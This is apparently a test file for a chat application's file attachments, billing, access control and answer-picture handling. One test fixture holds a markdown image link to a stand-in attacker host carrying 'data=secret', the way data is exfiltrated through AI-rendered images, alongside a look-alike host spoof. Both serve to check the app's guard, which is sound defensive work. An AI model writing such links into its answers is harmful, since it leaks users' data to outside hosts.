import { describe, expect, it } from 'vitest';
import { chat, drawing, files as F } from '@atelier/contracts';
import { callEndpoint } from '../../test/call-endpoint.js';
import { bearer } from '../../test/harness.js';
import { answerPictureGuard, isPictureHost, keepAnswerPictures } from './answer-pictures.js';
import { attach, samplePdf } from './chat-files.setup.js';
import {
  admin,
  alice,
  balance,
  bob,
  fake,
  logsOf,
  models,
  newGroup,
  stream,
  t,
  useChatApp,
} from './chat.setup.js';

useChatApp();

const pdf = samplePdf([['The secret word is PELICAN.'], ['Page two says the harbour is closed.']]);
const csv = Buffer.from('city,population\nOslo,709000\nBergen,291000\n');

describe('files in the conversation', () => {
  it('reads a PDF and a CSV, sends them with the question, and charges their tokens', async () => {
    const a = await attach(alice.token, pdf, 'report.pdf', 'application/pdf');
    expect(a.status).toBe(200);
    expect(a.body.data).toMatchObject({
      name: 'report.pdf',
      format: 'pdf',
      pages: 2,
      hasText: true,
    });
    const c = await attach(alice.token, csv, 'cities.csv', 'text/csv');
    expect(c.body.data).toMatchObject({ format: 'csv', pages: 1, size: csv.length });

    const groupId = await newGroup(bearer(alice.token));
    const before = await balance(alice.userId);
    // Without the upstream's usage the charge is the estimate, which counts the files' text.
    fake.withholdUsage = true;
    try {
      const r = await stream(bearer(alice.token), {
        gptModelId: models.Fake,
        prompt: 'What is the secret word, and which city is larger?',
        options: { groupId },
        fileIds: [a.body.data.id, c.body.data.id],
      });
      expect(r.status).toBe(200);
      const sent = fake.requests.at(-1)!.body.messages;
      const filesMessage = sent.at(-2)!;
      expect(filesMessage.role).toBe('user');
      expect(filesMessage.content).toContain('<file name="report.pdf" pages="2" used="whole">');
      expect(filesMessage.content).toContain('[page 1]\nThe secret word is PELICAN.');
      expect(filesMessage.content).toContain('Oslo,709000');
      expect(sent.at(-1)).toEqual({
        role: 'user',
        content: 'What is the secret word, and which city is larger?',
      });
      expect(r.last!.files).toEqual([
        expect.objectContaining({ name: 'report.pdf', used: 'whole', pages: 2 }),
        expect.objectContaining({ name: 'cities.csv', used: 'whole', format: 'csv' }),
      ]);
      const usage = r.last!.usage!;
      expect(usage.source).toBe('estimate');
      const fileTokens = r.last!.files!.reduce((n, f) => n + f.tokens, 0);
      expect(usage.promptTokens).toBeGreaterThan(fileTokens);
      // 100 credits per 1,000 prompt tokens, 200 per 1,000 written.
      const cost = Math.ceil((usage.promptTokens * 100 + usage.completionTokens * 200) / 1000);
      expect(r.last!.cost).toBe(cost);
      expect(await balance(alice.userId)).toBe(before - cost);
    } finally {
      fake.withholdUsage = false;
    }
    const logs = await logsOf(bearer(alice.token), groupId);
    expect(logs[0]!.files.map((f) => [f.name, f.used])).toEqual([
      ['report.pdf', 'whole'],
      ['cities.csv', 'whole'],
    ]);
    expect(logs[1]!.files).toEqual([]);
  });

  it('keeps the branch’s files in the context of later questions, and with an answer asked again', async () => {
    const h = bearer(alice.token);
    const a = await attach(alice.token, pdf, 'report.pdf', 'application/pdf');
    const groupId = await newGroup(h);
    await stream(h, {
      gptModelId: models.Fake,
      prompt: 'Read this',
      options: { groupId },
      fileIds: [a.body.data.id],
    });
    // A later question on the branch, with no file of its own: the report is still there.
    await stream(h, {
      gptModelId: models.Fake,
      prompt: 'What is the secret word?',
      options: { groupId },
    });
    const later = fake.requests.at(-1)!.body.messages;
    expect(later.at(-2)!.content).toContain('<file name="report.pdf"');
    expect(later.at(-1)).toEqual({ role: 'user', content: 'What is the secret word?' });
    const logs = await logsOf(h, groupId);
    expect(logs[2]!.files).toEqual([]);
    // The first answer asked again: the question goes with its file, and is not saved twice.
    const r = await stream(h, {
      gptModelId: models.Fake,
      prompt: 'ignored',
      options: { groupId, regenerateOf: logs[0]!.id },
    });
    expect(r.status).toBe(200);
    const again = fake.requests.at(-1)!.body.messages;
    expect(again.at(-2)!.content).toContain('The secret word is PELICAN.');
    expect(again.at(-1)).toEqual({ role: 'user', content: 'Read this' });
    expect(
      again.filter((m: { content: unknown }) => m.content === 'What is the secret word?'),
    ).toEqual([]);
    const after = await logsOf(h, groupId);
    expect(after).toHaveLength(2);
    expect(after[0]!.files.map((f) => f.name)).toEqual(['report.pdf']);
    expect(after[1]!.siblings).toHaveLength(2);
  });

  it('sends the related pages, named, when the files do not fit the window', async () => {
    const filler = (w: string) => Array.from({ length: 250 }, () => w).join(' ');
    const long = samplePdf([
      [filler('weather')],
      [filler('harbour')],
      ['The lighthouse keeper is Ingrid.', filler('sea')],
      [filler('gulls')],
    ]);
    const f = await attach(alice.token, long, 'log.pdf');
    const groupId = await newGroup(bearer(alice.token));
    const r = await stream(bearer(alice.token), {
      gptModelId: models['Fake files'],
      prompt: 'Who is the lighthouse keeper?',
      options: { groupId },
      fileIds: [f.body.data.id],
    });
    expect(r.last!.files![0], JSON.stringify(r.last)).toMatchObject({ used: 'parts' });
    expect(r.last!.files![0]!.usedPages).toContain(3);
    const sent = fake.requests.at(-1)!.body.messages.at(-2)!.content as string;
    expect(sent).toContain('[page 3]\nThe lighthouse keeper is Ingrid.');
  });

  it('says when a PDF has no text, and charges nothing for a failed answer', async () => {
    const scan = await attach(alice.token, samplePdf([null]), 'scan.pdf');
    expect(scan.body.data).toMatchObject({ hasText: false, tokens: 0, pages: 1 });
    const groupId = await newGroup(bearer(alice.token));
    const before = await balance(alice.userId);
    const r = await stream(bearer(alice.token), {
      gptModelId: models['Fake 500'],
      prompt: 'Summarise the scan',
      options: { groupId },
      fileIds: [scan.body.data.id],
    });
    expect(fake.requests.at(-1)!.body.messages.at(-2)!.content).toContain(
      'No text could be read from this file',
    );
    expect(r.last).toMatchObject({ done: true, cost: 0 });
    expect(r.last!.error).toBeTruthy();
    expect(await balance(alice.userId)).toBe(before);
  });

  it('keeps each user to their own files, and refuses what it cannot read', async () => {
    const mine = await attach(alice.token, csv, 'private.csv');
    const groupId = await newGroup(bearer(bob.token));
    const asked = fake.requests.length;
    const r = await stream(bearer(bob.token), {
      gptModelId: models.Fake,
      prompt: 'Read it',
      options: { groupId },
      fileIds: [mine.body.data.id],
    });
    expect(r.status).toBe(404);
    expect(fake.requests.length).toBe(asked);

    const bin = await attach(alice.token, Buffer.from([0, 1, 2, 3, 0]), 'blob.bin');
    expect(bin.status).toBe(400);
    expect(JSON.stringify(bin.body)).toContain('"file"');
    const broken = await attach(alice.token, Buffer.from('PK\u0003\u0004 not a zip'), 'x.docx');
    expect(broken.status).toBe(400);

    // The operator's size: 1 MB.
    const set = await callEndpoint(t.app, F.adminUpdateFileSettings, {
      token: admin.token,
      body: { chatFileMaxMb: 1 },
    });
    expect(set.body.data.chatFileMaxMb).toBe(1);
    try {
      const big = await attach(alice.token, Buffer.alloc(1_200_000, 'a'), 'big.txt');
      expect(big.status).toBe(413);
    } finally {
      await callEndpoint(t.app, F.adminUpdateFileSettings, {
        token: admin.token,
        body: { chatFileMaxMb: 20 },
      });
    }
  });
});

describe('pictures in answers', () => {
  it('stores a picture sent as data, links our copy, and saves it to the works', async () => {
    for (const name of ['Fake image', 'Fake image inline'] as const) {
      const groupId = await newGroup(bearer(alice.token));
      const r = await stream(bearer(alice.token), {
        gptModelId: models[name],
        prompt: 'Draw a lighthouse',
        options: { groupId },
      });
      expect(r.last!.pictures).toHaveLength(1);
      const picture = r.last!.pictures![0]!;
      expect(picture.url).toMatch(/^\/api\/files\/r\/\d+\/.+\.png\?exp=\d+&sig=/);
      expect(r.last!.text).toContain(`](${picture.url})`);
      expect(r.last!.text).not.toContain('data:image');
      // Stored without the signature; signed afresh for its owner on every read.
      const [, answer] = await logsOf(bearer(alice.token), groupId);
      expect(answer!.content).toContain(`](${picture.url})`);
      const stored = await t.app.ctx.db.kysely
        .selectFrom('chat_logs')
        .select('content')
        .where('id', '=', answer!.id)
        .executeTakeFirstOrThrow();
      expect(stored.content).toMatch(/!\[\]\(\/api\/files\/r\/\d+\/[^?)]+\)$/);
      const bytes = await t.app.inject({ method: 'GET', url: picture.url });
      expect(bytes.statusCode).toBe(200);
      expect(bytes.headers['content-type']).toBe('image/png');
      // A shared page shows our stored copy to a visitor without an account.
      const made = await callEndpoint(t.app, chat.createShare, {
        headers: bearer(alice.token),
        body: { groupId },
      });
      expect(made.status).toBe(200);
      const page = await t.app.inject({ method: 'GET', url: made.body.data.path });
      const shown = /<img src="(\/api\/files\/r\/\d+\/[^"]+)"/.exec(page.body);
      expect(shown).not.toBeNull();
      const seen = await t.app.inject({ method: 'GET', url: shown![1]!.replaceAll('&amp;', '&') });
      expect(seen.statusCode).toBe(200);
      // In the works, offered on the drawing screens as a reference.
      const mine = await callEndpoint(t.app, drawing.finishedPictures, {
        token: alice.token,
        query: { page: 1, size: 99 },
      });
      expect(mine.body.data.rows.map((p) => p.taskId)).toContain(picture.workId);
    }
  });

  it('copies a picture link of the provider through the address guard, and no other by itself', async () => {
    const groupId = await newGroup(bearer(alice.token));
    // Refused by the guard as it is: the fake is on loopback, so the link stays as it came.
    const refused = await stream(bearer(alice.token), {
      gptModelId: models['Fake image link'],
      prompt: 'Draw a boat',
      options: { groupId },
    });
    expect(refused.last!.pictures).toBeUndefined();
    expect(refused.last!.text).toContain('/v1/fake-images/picture.png?expires=3600');

    answerPictureGuard.options = { isBlocked: () => false };
    try {
      const r = await stream(bearer(alice.token), {
        gptModelId: models['Fake image link'],
        prompt: 'Draw a boat',
        options: { groupId },
      });
      expect(r.last!.pictures).toHaveLength(1);
      expect(r.last!.text).toBe(`A picture: ![image](${r.last!.pictures![0]!.url})`);
    } finally {
      answerPictureGuard.options = {};
    }
    // A link to any other host is left for a click: nothing is fetched by itself.
    const other = await keepAnswerPictures(t.app.ctx, {
      userId: alice.userId,
      prompt: 'x',
      groupId,
      text: 'See ![](https://attacker.example/x.png?data=secret)',
      parts: ['https://attacker.example/y.png'],
      hosts: ['127.0.0.1', '*.cdn.example'],
    });
    expect(other).toEqual({
      text: 'See ![](https://attacker.example/x.png?data=secret)\n\n![](https://attacker.example/y.png)',
      pictures: [],
    });
    expect(isPictureHost('https://img.cdn.example/a.png', ['*.cdn.example'])).toBe(true);
    expect(isPictureHost('https://cdn.example.evil/a.png', ['*.cdn.example'])).toBe(false);
    // Bob reads nothing of Alice's pictures.
    const [, answer] = (await logsOf(bearer(alice.token), groupId)).slice(-2);
    const link = /\]\((\/api\/files\/[^?)]+)/.exec(answer!.content)![1]!;
    const forBob = await t.app.inject({ method: 'GET', url: link, headers: bearer(bob.token) });
    expect(forBob.statusCode).toBe(404);
  });
});
